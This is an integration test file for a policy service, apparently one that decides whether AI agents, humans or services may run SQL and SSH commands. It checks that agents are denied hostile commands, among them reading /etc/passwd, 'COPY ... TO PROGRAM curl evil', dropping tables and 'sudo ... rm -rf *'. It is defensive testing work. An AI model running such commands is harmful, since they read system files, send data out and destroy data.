import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { credentials, InterceptingCall, loadPackageDefinition, status as GrpcStatus, type ClientReadableStream, type Interceptor, type ServiceError } from '@grpc/grpc-js';
import { loadSync } from '@grpc/proto-loader';
import { PROTO_LOADER_OPTIONS, PROTO_ROOT, SERVICE_PROTOS, policyV1 } from '@tracegate/contracts';
import { PostgresEventLog, TOPICS, verifyChain, type CloudEvent } from '@tracegate/events';
import { ConfigError, INTERNAL_TOKEN_METADATA, startServices, type RunningProcess } from '@tracegate/runtime';
import { freePort, pollUntil, startPostgres } from '@tracegate/test-harness';
import { policyService } from './policy.definition.js';

const { Effect, IdentityKind, Protocol } = policyV1;

type Callback<T> = (error: ServiceError | null, response?: T) => void;
interface PolicyClient {
  decide(request: unknown, callback: Callback<policyV1.DecideResponse>): void;
  decideBatch(request: unknown, callback: Callback<policyV1.DecideBatchResponse>): void;
  explain(request: unknown, callback: Callback<policyV1.ExplainResponse>): void;
  publishPolicy(request: unknown, callback: Callback<policyV1.PublishPolicyResponse>): void;
  listPolicyVersions(request: unknown, callback: Callback<policyV1.ListPolicyVersionsResponse>): void;
  watchPolicyVersions(request: unknown): ClientReadableStream<policyV1.WatchPolicyVersionsResponse>;
  close(): void;
}

const INTERNAL_TOKEN = 'policy-test-internal-token-0123456789abcdef';

/** A raw grpc-js client; `token` null sends no internal token. */
function policyClient(address: string, token: string | null = INTERNAL_TOKEN): PolicyClient {
  const definition = loadSync(SERVICE_PROTOS.policy.files[0], { ...PROTO_LOADER_OPTIONS, includeDirs: [PROTO_ROOT] });
  const loaded = loadPackageDefinition(definition) as unknown as {
    tracegate: {
      policy: { v1: { PolicyService: new (address: string, creds: ReturnType<typeof credentials.createInsecure>, options: object) => PolicyClient } };
    };
  };
  const withToken: Interceptor = (options, next) =>
    new InterceptingCall(next(options), {
      start(metadata, listener, start) {
        if (token !== null) metadata.set(INTERNAL_TOKEN_METADATA, token);
        start(metadata, listener);
      },
    });
  return new loaded.tracegate.policy.v1.PolicyService(address, credentials.createInsecure(), { interceptors: [withToken] });
}

function call<T>(method: (request: unknown, callback: Callback<T>) => void, request: unknown): Promise<T> {
  return new Promise((resolve, reject) => method(request, (error, response) => (error ? reject(error) : resolve(response as T))));
}

function request(kind: policyV1.IdentityKind, text: string, extra: { groups?: string[]; target?: string; labels?: Record<string, string> } = {}) {
  return {
    identity: { id: `${IdentityKind[kind]}-1`, kind, groups: extra.groups ?? [] },
    target: { name: extra.target ?? 'billing', type: 'postgres', labels: extra.labels ?? {} },
    command: { protocol: Protocol.PROTOCOL_POSTGRES, text, fingerprint: '', inMultiStatement: false },
  };
}

const AGENT = IdentityKind.IDENTITY_KIND_AGENT;
const HUMAN = IdentityKind.IDENTITY_KIND_HUMAN;
const SERVICE = IdentityKind.IDENTITY_KIND_SERVICE;

const FILE_POLICY = `# a policy given by TRACEGATE_POLICY_FILE
version: 1
default: { agent: deny, human: deny, service: deny }
rules:
  - name: ci-reads-analytics
    priority: 20
    match:
      identity: { kind: [service], groups: [ci] }
      target: { name: ['analytics-*'] }
      statement: { kind: [select] }
    effect: allow
    masking_profile: pii
  - name: humans-write-with-review
    priority: 10
    match:
      identity: { kind: [human] }
      statement: { kind: [insert, update, delete] }
    effect: review
    reason: writes need two approvals from the data team
    review: { group: data-team, quorum: 2, timeout_seconds: 600 }
`;

const CHANGED_POLICY = FILE_POLICY.replace('agent: deny, human: deny', 'agent: allow, human: deny');
const THIRD_POLICY = CHANGED_POLICY.replace('service: deny', 'service: allow');

describe('policy service over gRPC', () => {
  let postgres: Awaited<ReturnType<typeof startPostgres>>;
  let databaseUrl: string;
  let directory: string;

  async function start(env: Record<string, string> = {}, url = databaseUrl): Promise<{ proc: RunningProcess; client: PolicyClient; address: string }> {
    const grpcPort = String(await freePort());
    const proc = await startServices([policyService], {
      component: 'tracegate policy',
      databaseUrl: url,
      env: {
        TRACEGATE_POLICY_GRPC_PORT: grpcPort,
        TRACEGATE_POLICY_METRICS_PORT: String(await freePort()),
        TRACEGATE_LOG_LEVEL: 'silent',
        TRACEGATE_INTERNAL_TOKEN: INTERNAL_TOKEN,
        ...env,
      },
    });
    const address = `127.0.0.1:${grpcPort}`;
    return { proc, client: policyClient(address), address };
  }

  async function policyEvents(url = databaseUrl): Promise<CloudEvent[]> {
    const reader = await PostgresEventLog.connect(url);
    const seen: CloudEvent[] = [];
    try {
      const subscription = await reader.subscribe({
        group: `policy-test-${Math.random()}`,
        topics: [TOPICS.policy.name],
        handler: async (delivery) => {
          seen.push(delivery.event);
        },
      });
      // Appends are acknowledged before start() returns: the newest event was written last.
      const written = await countPolicyEvents(url);
      await pollUntil(() => seen.length >= written, { description: `${written} policy events` });
      await subscription.stop();
    } finally {
      await reader.close();
    }
    return seen;
  }

  async function countPolicyEvents(url: string): Promise<number> {
    const { default: pg } = await import('pg');
    const client = new pg.Client({ connectionString: url });
    await client.connect();
    try {
      const { rows } = await client.query<{ sequence: string }>(`SELECT sequence FROM policy.activation_chain`);
      return Number(rows[0]?.sequence ?? 0);
    } finally {
      await client.end();
    }
  }

  before(async () => {
    postgres = await startPostgres();
    databaseUrl = await postgres.createDatabase();
    directory = await mkdtemp(join(tmpdir(), 'tracegate-policy-'));
  });

  after(async () => {
    await postgres.stop();
    await rm(directory, { recursive: true, force: true });
  });

  describe('with the built-in policy', () => {
    let running: Awaited<ReturnType<typeof start>>;
    before(async () => {
      running = await start();
    });
    after(async () => {
      running.client.close();
      await running.proc.stop();
    });
    const decide = (r: unknown) => call(running.client.decide.bind(running.client), r);

    it('allows an agent to read, and returns the analysis and what the decision depended on', async () => {
      const response = await decide(request(AGENT, 'SELECT * FROM public.invoices i JOIN customers c ON c.id = i.customer_id'));
      assert.equal(response.effect, Effect.EFFECT_ALLOW);
      assert.equal(response.rule, 'agents-read');
      assert.match(response.policyVersion, /^sha256:[0-9a-f]{64}$/);
      assert.deepEqual(
        { kind: response.statement?.kind, reads: response.statement?.reads, writes: response.statement?.writes, opaque: response.statement?.opaque },
        { kind: 'select', reads: ['customers', 'public.invoices'], writes: [], opaque: false },
      );
      assert.deepEqual(response.dependsOn, [
        'command.fingerprint',
        'identity.kind',
        'statement.flags',
        'statement.has_where',
        'statement.kind',
        'statement.opaque',
      ]);
    });

    it('denies an agent an unfiltered DELETE hidden in a CTE, with the reason it sees', async () => {
      const response = await decide(request(AGENT, 'with d as (/* tidy */ DELETE FROM invoices returning *) select * from d'));
      assert.equal(response.effect, Effect.EFFECT_DENY);
      assert.equal(response.rule, 'agents-no-unfiltered-writes');
      assert.equal(response.reason, 'agents may not UPDATE or DELETE without a WHERE clause that filters on a column');
      assert.equal(response.statement?.kind, 'delete');
      assert.equal(response.statement?.hasWhere, false);
      assert.deepEqual(response.statement?.flags, ['data_modifying_cte']);
    });

    it('holds an agent write for review by the dba group', async () => {
      const response = await decide(request(AGENT, 'UPDATE invoices SET paid = true WHERE id = 42'));
      assert.equal(response.effect, Effect.EFFECT_REVIEW);
      assert.equal(response.rule, 'agents-writes-need-review');
      assert.deepEqual(response.review, { reviewerGroup: 'dba', quorum: 1, timeoutSeconds: 900 });
    });

    it('denies opaque and dangerous statements to agents; allows humans; denies services by default', async () => {
      const cases: [policyV1.IdentityKind, string, policyV1.Effect, string][] = [
        [AGENT, "DO $$ BEGIN EXECUTE 'DROP TABLE invoices'; END $$", Effect.EFFECT_DENY, 'agents-no-opaque-statements'],
        [AGENT, "SELECT pg_read_file('/etc/passwd')", Effect.EFFECT_DENY, 'agents-no-server-access'],
        [AGENT, "COPY invoices TO PROGRAM 'curl evil'", Effect.EFFECT_DENY, 'agents-no-server-access'],
        [AGENT, 'SET ROLE postgres', Effect.EFFECT_DENY, 'agents-no-server-access'],
        [AGENT, 'DROP TABLE invoices', Effect.EFFECT_DENY, 'agents-no-schema-or-privilege-changes'],
        [HUMAN, 'DROP TABLE invoices', Effect.EFFECT_ALLOW, 'default'],
        [HUMAN, 'DO $$ BEGIN END $$', Effect.EFFECT_ALLOW, 'humans-may-run-opaque-statements'],
        [SERVICE, 'SELECT 1', Effect.EFFECT_DENY, 'default'],
      ];
      for (const [kind, text, effect, rule] of cases) {
        const response = await decide(request(kind, text));
        assert.deepEqual([response.effect, response.rule], [effect, rule], text);
      }
    });

    it('refuses a request without identity or statement with INVALID_ARGUMENT and a sentence', async () => {
      const invalid: [unknown, RegExp][] = [
        [{ ...request(AGENT, 'SELECT 1'), identity: undefined }, /^identity is required: say who runs the statement/],
        [request(IdentityKind.IDENTITY_KIND_UNSPECIFIED, 'SELECT 1'), /^identity\.kind is required: agent, human or service/],
        [request(AGENT, '   '), /^command\.text is empty: send the statement to decide$/],
        [{ ...request(AGENT, 'SELECT 1'), command: undefined }, /^command is required/],
      ];
      for (const [given, message] of invalid) {
        await assert.rejects(decide(given), (error: ServiceError) => {
          assert.equal(error.code, GrpcStatus.INVALID_ARGUMENT);
          assert.match(error.details, message);
          return true;
        });
      }
    });

    it('decides shell commands for SSH with the shell analysis', async () => {
      const ssh = (kind: policyV1.IdentityKind, text: string) => ({ ...request(kind, text), command: { protocol: Protocol.PROTOCOL_SSH, text } });
      const destructive = await decide(ssh(AGENT, `sudo bash -c 'cd / && rm -rf *'`));
      assert.deepEqual([destructive.effect, destructive.rule], [Effect.EFFECT_DENY, 'agents-no-destructive-shell']);
      assert.deepEqual(destructive.statement?.flags, ['destructive_delete', 'privilege_escalation']);
      assert.equal(destructive.statement?.kind, 'shell');
      const held = await decide(ssh(AGENT, 'tail -n 50 /var/log/app.log'));
      assert.deepEqual([held.effect, held.rule], [Effect.EFFECT_REVIEW, 'agents-shell-needs-review']);
      assert.ok(held.dependsOn.includes('command.text'));
    });

    it('decides a batch in request order, and refuses a batch with an invalid request, naming it', async () => {
      const batch = (r: unknown) => call(running.client.decideBatch.bind(running.client), r);
      const { responses } = await batch({ requests: [request(AGENT, 'SELECT 1'), request(AGENT, 'DROP TABLE t'), request(HUMAN, 'DROP TABLE t')] });
      assert.deepEqual(
        responses.map((r) => r.rule),
        ['agents-read', 'agents-no-schema-or-privilege-changes', 'default'],
      );
      assert.equal(new Set(responses.map((r) => r.policyVersion)).size, 1);
      await assert.rejects(batch({ requests: [request(AGENT, 'SELECT 1'), request(AGENT, ' ')] }), (error: ServiceError) => {
        assert.equal(error.code, GrpcStatus.INVALID_ARGUMENT);
        assert.equal(error.details, 'requests[1]: command.text is empty: send the statement to decide');
        return true;
      });
    });

    it('explains every rule: matched or not, and why', async () => {
      const response = await call(running.client.explain.bind(running.client), { input: request(AGENT, 'DELETE FROM invoices') });
      assert.equal(response.decision?.rule, 'agents-no-unfiltered-writes');
      const byRule = new Map(response.evaluations.map((e) => [e.rule, e]));
      assert.equal(response.evaluations.length, 10);
      assert.equal(byRule.get('agents-no-opaque-statements')?.detail, 'the statement is not opaque');
      assert.equal(byRule.get('agents-no-unfiltered-writes')?.matched, true);
      assert.equal(byRule.get('agents-no-unfiltered-writes')?.priority, 700);
      assert.equal(byRule.get('humans-may-run-opaque-statements')?.matched, false);
    });

    it('streams the version in force', async () => {
      const stream = running.client.watchPolicyVersions({});
      const first = await new Promise<policyV1.WatchPolicyVersionsResponse>((resolve, reject) => {
        stream.once('data', resolve);
        stream.once('error', reject);
      });
      stream.cancel();
      const decision = await decide(request(SERVICE, 'SELECT 1'));
      assert.equal(first.version, decision.policyVersion);
      assert.ok((first.activatedAt?.seconds ?? 0) > 0);
    });

    it('records the activation on the policy topic', async () => {
      const events = await policyEvents();
      assert.equal(events.length, 1);
      const [event] = events;
      assert.equal(event!.type, 'dev.tracegate.policy.activated.v1');
      assert.equal(event!.subject, 'policies/default');
      assert.equal(event!.sequence, 1);
      const data = event!.data as Record<string, unknown>;
      assert.equal(data.source, 'built-in');
      assert.equal(data.previousVersion, '');
      assert.ok((data.rules as string[]).includes('agents-read'));
    });
  });

  describe('with a policy file from TRACEGATE_POLICY_FILE', () => {
    let file: string;
    let running: Awaited<ReturnType<typeof start>>;
    before(async () => {
      file = join(directory, 'policy.yaml');
      await writeFile(file, FILE_POLICY);
      running = await start({ TRACEGATE_POLICY_FILE: file });
    });
    after(async () => {
      running.client.close();
      await running.proc.stop();
    });
    const decide = (r: unknown) => call(running.client.decide.bind(running.client), r);

    it('decides by the file: allow with a masking profile, review with its group and quorum, explicit defaults', async () => {
      const allowed = await decide(request(SERVICE, 'SELECT * FROM customers', { groups: ['ci'], target: 'analytics-eu' }));
      assert.deepEqual([allowed.effect, allowed.rule, allowed.maskingProfile], [Effect.EFFECT_ALLOW, 'ci-reads-analytics', 'pii']);
      const held = await decide(request(HUMAN, 'DELETE FROM t WHERE id = 1'));
      assert.deepEqual([held.effect, held.rule, held.reason], [Effect.EFFECT_REVIEW, 'humans-write-with-review', 'writes need two approvals from the data team']);
      assert.deepEqual(held.review, { reviewerGroup: 'data-team', quorum: 2, timeoutSeconds: 600 });
      const denied = await decide(request(AGENT, 'SELECT 1'));
      assert.deepEqual([denied.effect, denied.rule], [Effect.EFFECT_DENY, 'default']);
      assert.match(denied.reason, /default for agent identities is deny/);
    });

    it('continues the activation chain across restarts', async () => {
      const events = await policyEvents();
      assert.equal(events.length, 2);
      assert.deepEqual(verifyChain(events), []);
      assert.equal((events[1]!.data as Record<string, unknown>).source, file);
      assert.equal((events[1]!.data as Record<string, unknown>).previousVersion, (events[0]!.data as Record<string, unknown>).version);
    });

    it('puts a changed file in force, and keeps the version in force when the file turns invalid', async () => {
      const before = (await decide(request(AGENT, 'SELECT 1'))).policyVersion;
      await writeFile(file, CHANGED_POLICY);
      const changed = await pollUntil(
        async () => {
          const response = await decide(request(AGENT, 'SELECT 1'));
          return response.policyVersion !== before ? response : undefined;
        },
        { description: 'the changed policy file in force' },
      );
      assert.deepEqual([changed.effect, changed.rule], [Effect.EFFECT_ALLOW, 'default']);
      const events = await policyEvents();
      assert.equal(events.length, 3);
      assert.deepEqual(verifyChain(events), []);

      // An invalid file is refused as a whole: the version in force stays, and no activation is recorded.
      await writeFile(file, 'version: 1\ndefault: { agent: maybe }\n');
      await new Promise((resolve) => setTimeout(resolve, 500));
      assert.equal((await decide(request(AGENT, 'SELECT 1'))).policyVersion, changed.policyVersion);
      await writeFile(file, THIRD_POLICY);
      const third = await pollUntil(
        async () => {
          const response = await decide(request(SERVICE, 'SELECT 1'));
          return response.effect === Effect.EFFECT_ALLOW ? response : undefined;
        },
        { description: 'the third policy file in force' },
      );
      const versions = (await policyEvents()).map((event) => (event.data as Record<string, unknown>).version);
      assert.deepEqual(versions.slice(2), [changed.policyVersion, third.policyVersion]);
    });
  });

  it('a restart with the version already in force records nothing new', async () => {
    const file = join(directory, 'same.yaml');
    await writeFile(file, `# the same policy, laid out differently\n${THIRD_POLICY}`);
    const first = await start({ TRACEGATE_POLICY_FILE: file });
    const stream = first.client.watchPolicyVersions({});
    const ended = new Promise<number>((resolve) => stream.on('status', (status: { code: number }) => resolve(status.code)));
    stream.on('error', () => undefined);
    await new Promise((resolve) => stream.once('data', resolve));
    await first.proc.stop();
    // A watcher is told the stream is over (OK) on shutdown, not cut off when the grace period ends.
    assert.equal(await ended, GrpcStatus.OK);
    first.client.close();
    assert.equal((await policyEvents()).length, 4);
  });

  it('refuses to start with a broken policy file, naming every bad field', async () => {
    const file = join(directory, 'broken.yaml');
    await writeFile(
      file,
      `version: 1
default: { agent: deny, human: allow, service: deny }
rules:
  - name: reads
    priority: 10
    match: { statement: { kind: [selekt] } }
    effect: allow
  - name: writes
    priority: 5
    effect: block
`,
    );
    await assert.rejects(start({ TRACEGATE_POLICY_FILE: file }), (error: unknown) => {
      assert.ok(error instanceof ConfigError);
      assert.equal(
        error.message,
        [
          'tracegate policy cannot start: 1 configuration value is invalid:',
          `  - TRACEGATE_POLICY_FILE: policy ${file} is invalid (2 problems):`,
          `      - ${file}:6:34: rules[0] (reads).match.statement.kind[0]: 'selekt' is not one of select, insert, update, delete, merge, truncate, ddl, dcl, copy, transaction, set, show, explain, session, call, do, execute, utility, opaque, shell`,
          `      - ${file}:10:13: rules[1] (writes).effect: 'block' is not one of allow, deny, review`,
        ].join('\n'),
      );
      return true;
    });
    await assert.rejects(start({ TRACEGATE_POLICY_FILE: join(directory, 'missing.yaml') }), /policy file .*missing\.yaml cannot be read \(ENOENT\)/);
  });

  describe('published through the API, and from a directory', () => {
    let url: string;
    let running: Awaited<ReturnType<typeof start>>;
    before(async () => {
      url = await postgres.createDatabase();
      running = await start({}, url);
    });
    after(async () => {
      running.client.close();
      await running.proc.stop();
    });
    const decide = (r: unknown) => call(running.client.decide.bind(running.client), r);
    const publish = (r: unknown) => call(running.client.publishPolicy.bind(running.client), r);
    const list = (r: unknown) => call(running.client.listPolicyVersions.bind(running.client), r);

    const PUBLISHED = `version: 1
default: { agent: deny, human: allow, service: deny }
rules:
  - name: agents-read-production
    priority: 500
    match: { identity: { kind: agent }, target: { labels: { env: production } }, statement: { kind: select } }
    effect: allow
  - name: agent-writes-low-confidence
    priority: 400
    match: { identity: { kind: agent } }
    when: command.kind in ['insert', 'update', 'delete'] && trace.present && trace.confidence < 0.8
    effect: review
    review: { group: dba, quorum: 2, timeout_seconds: 600 }
`;

    it('refuses a call without the internal token, with UNAUTHENTICATED and a sentence', async () => {
      const stranger = policyClient(running.address, null);
      try {
        await assert.rejects(call(stranger.decide.bind(stranger), request(AGENT, 'SELECT 1')), (error: ServiceError) => {
          assert.equal(error.code, GrpcStatus.UNAUTHENTICATED);
          assert.match(error.details, /needs the policy service's internal token in the gRPC metadata 'x-tracegate-internal-token'.*missing/);
          return true;
        });
      } finally {
        stranger.close();
      }
    });

    it('refuses an invalid document whole, naming line, column and rule, and keeps the version in force', async () => {
      const before = (await decide(request(AGENT, 'SELECT 1'))).policyVersion;
      const broken = PUBLISHED.replace('trace.confidence < 0.8', 'trace.confidance < 0.8').replace('effect: allow', 'effect: permit');
      await assert.rejects(publish({ document: broken, author: 'ana', comment: 'typo' }), (error: ServiceError) => {
        assert.equal(error.code, GrpcStatus.INVALID_ARGUMENT);
        assert.match(error.details, /^policy published document is invalid \(2 problems\):/);
        assert.match(error.details, /published document:7:13: rules\[0\] \(agents-read-production\)\.effect: 'permit' is not one of allow, deny, review/);
        assert.match(error.details, /published document:11:84: rules\[1\] \(agent-writes-low-confidence\)\.when: 'trace' has no field 'confidance'/);
        return true;
      });
      await assert.rejects(publish({ document: PUBLISHED, author: ' ' }), (error: ServiceError) => error.code === GrpcStatus.INVALID_ARGUMENT && /^author is required/.test(error.details));
      assert.equal((await decide(request(AGENT, 'SELECT 1'))).policyVersion, before);
    });

    it('puts a published document in force, records who and what changed, and decides on trace features with CEL', async () => {
      const published = await publish({ document: PUBLISHED, author: 'ana', comment: 'read-only agents on production' });
      assert.equal(published.changed, true);
      assert.deepEqual(published.changes?.addedRules, ['agent-writes-low-confidence', 'agents-read-production']);
      assert.ok(published.changes?.removedRules.includes('agents-read'));
      assert.equal(published.changes?.defaultsChanged, false);
      const again = await publish({ document: `# same, reformatted\n${PUBLISHED}`, author: 'ana' });
      assert.deepEqual([again.changed, again.version], [false, published.version]);

      const update = (confidence: number | undefined) => ({
        ...request(AGENT, 'UPDATE invoices SET paid = true WHERE id = 1', { labels: { env: 'production' } }),
        trace: confidence === undefined ? { present: false } : { present: true, confidence, model: 'm', tags: [] },
      });
      const held = await decide(update(0.5));
      assert.deepEqual([held.effect, held.rule, held.policyVersion], [Effect.EFFECT_REVIEW, 'agent-writes-low-confidence', published.version]);
      assert.deepEqual(held.review, { reviewerGroup: 'dba', quorum: 2, timeoutSeconds: 600 });
      assert.deepEqual(held.dependsOn, ['command.fingerprint', 'command.kind', 'identity.kind', 'statement.kind', 'target.labels.env', 'trace.confidence', 'trace.present']);
      assert.deepEqual([(await decide(update(0.95))).rule, (await decide(update(undefined))).rule], ['default', 'default']);
      const read = await decide(request(AGENT, 'SELECT * FROM invoices', { labels: { env: 'production' } }));
      assert.deepEqual([read.effect, read.rule], [Effect.EFFECT_ALLOW, 'agents-read-production']);

      const events = await policyEvents(url);
      assert.equal(events.length, 2);
      assert.deepEqual(verifyChain(events), []);
      const data = events[1]!.data as Record<string, unknown>;
      assert.deepEqual([data.author, data.comment, data.source], ['ana', 'read-only agents on production', 'published by ana']);
      assert.deepEqual((data.changes as { addedRules: string[] }).addedRules, ['agent-writes-low-confidence', 'agents-read-production']);

      const { versions } = await list({ limit: 0, includeDocuments: true });
      assert.deepEqual(
        versions.map((v) => [v.version, v.source, v.author, v.inForce, Number(v.sequence)]),
        [
          [published.version, 'published by ana', 'ana', true, 2],
          [versions[1]!.version, 'built-in', '', false, 1],
        ],
      );
      assert.equal(versions[0]!.document, PUBLISHED);
      assert.equal((await list({ limit: 1, includeDocuments: false })).versions[0]!.document, '');
    });

    it('a restart without a policy file keeps the last published version in force', async () => {
      const inForce = (await decide(request(AGENT, 'SELECT 1'))).policyVersion;
      running.client.close();
      await running.proc.stop();
      running = await start({}, url);
      assert.equal((await decide(request(AGENT, 'SELECT 1'))).policyVersion, inForce);
      assert.equal((await policyEvents(url)).length, 2);
    });

    it('reads TRACEGATE_POLICY_DIR as one policy, one document per concern; examples beside them are not policy', async () => {
      const dir = join(directory, 'policies');
      await import('node:fs/promises').then((fs) => fs.mkdir(dir, { recursive: true }));
      await writeFile(join(dir, '00-defaults.yaml'), 'version: 1\ndefault: { agent: deny, human: allow, service: deny }\n');
      await writeFile(join(dir, 'agents.yaml'), 'version: 1\nrules:\n  - name: agents-read\n    priority: 10\n    match: { identity: { kind: agent }, statement: { kind: select } }\n    effect: allow\n');
      await writeFile(join(dir, 'agents.tests.yaml'), 'not: a policy\n');
      const fromDir = await start({ TRACEGATE_POLICY_DIR: dir }, url);
      try {
        const decision = await call(fromDir.client.decide.bind(fromDir.client), request(AGENT, 'SELECT 1'));
        assert.deepEqual([decision.effect, decision.rule], [Effect.EFFECT_ALLOW, 'agents-read']);
        const { versions } = await call(fromDir.client.listPolicyVersions.bind(fromDir.client), {});
        assert.equal(versions[0]!.source, dir);
        // A change to any document of the directory is picked up, the whole directory validated again.
        await writeFile(join(dir, 'agents.yaml'), 'version: 1\nrules:\n  - name: agents-read\n    priority: 10\n    match: { identity: { kind: agent }, statement: { kind: select } }\n    effect: review\n    review: { group: dba }\n');
        const changed = await pollUntil(
          async () => {
            const response = await call(fromDir.client.decide.bind(fromDir.client), request(AGENT, 'SELECT 1'));
            return response.effect === Effect.EFFECT_REVIEW ? response : undefined;
          },
          { description: 'the changed directory in force' },
        );
        assert.notEqual(changed.policyVersion, decision.policyVersion);
        const latest = (await call(fromDir.client.listPolicyVersions.bind(fromDir.client), { limit: 1 })).versions[0]!;
        assert.deepEqual([latest.version, latest.changes?.changedRules], [changed.policyVersion, ['agents-read']]);
      } finally {
        fromDir.client.close();
        await fromDir.proc.stop();
      }
      await writeFile(join(dir, 'more.yaml'), 'version: 1\ndefault: { agent: allow, human: allow, service: allow }\nrules:\n  - name: agents-read\n    priority: 1\n    effect: deny\n    reason: no\n');
      await assert.rejects(start({ TRACEGATE_POLICY_DIR: dir }, url), (error: unknown) => {
        assert.ok(error instanceof ConfigError);
        assert.match(error.message, /more\.yaml:2:10: default: is already set at .*00-defaults\.yaml:2:10; exactly one document may set default/);
        assert.match(error.message, /more\.yaml:4:11: rule 'agents-read' is already defined at .*agents\.yaml:3:11; rule names must be unique/);
        return true;
      });
      await import('node:fs/promises').then((fs) => fs.rm(join(dir, 'more.yaml')));
      await assert.rejects(start({ TRACEGATE_POLICY_DIR: dir, TRACEGATE_POLICY_FILE: join(directory, 'policy.yaml') }, url), /set together with TRACEGATE_POLICY_FILE/);
    });
  });
});
